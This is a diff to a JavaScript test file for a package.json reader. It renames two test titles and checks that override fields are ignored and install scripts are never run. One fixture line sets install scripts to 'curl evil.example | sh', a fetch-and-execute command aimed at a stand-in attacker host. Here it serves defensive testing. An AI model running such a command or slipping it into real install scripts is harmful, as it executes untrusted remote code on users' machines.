@@ -44,13 +44,13 @@ describe('package.json', () => {
     'pnpm',
     'bundleDependencies',
     'bundledDependencies',
-  ])('steers nothing with %s, and says so', (field) => {
+  ])('ignores %s, and reports it', (field) => {
     const { wanted, notes } = read(JSON.stringify({ [field]: { a: 'npm:evil@1' }, dependencies: { a: '^1.0.0' } }));
     expect([...wanted]).toEqual([['a', '^1.0.0']]);
     expect(notes).toEqual([`package.json: ${field} is not followed`]);
   });
 
-  it.each(['preinstall', 'install', 'postinstall', 'prepare'])('runs no %s, and says so', (script) => {
+  it.each(['preinstall', 'install', 'postinstall', 'prepare'])('runs no %s, and reports it', (script) => {
     const { notes } = read(JSON.stringify({ scripts: { [script]: 'curl evil.example | sh' } }));
     expect(notes).toEqual(['package.json: install scripts are never run']);
   });
